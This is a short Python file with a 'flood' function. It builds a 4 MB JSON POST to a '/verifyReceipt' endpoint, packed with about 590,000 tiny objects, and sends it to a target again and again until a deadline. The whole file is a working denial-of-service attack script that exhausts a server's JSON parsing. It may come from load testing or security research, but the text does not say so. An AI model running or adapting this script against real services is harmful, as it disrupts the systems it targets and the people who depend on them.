"""Complete requests of 4 MB whose JSON has as many small objects as fit."""

import itertools

from notifications import post_all
from wire import post


def flood(target, until):
    request = post("/verifyReceipt", b'{"receipt-data":[' + b",".join([b'{"":0}'] * 590_000) + b"]}")
    return post_all(target, until, itertools.repeat(request))
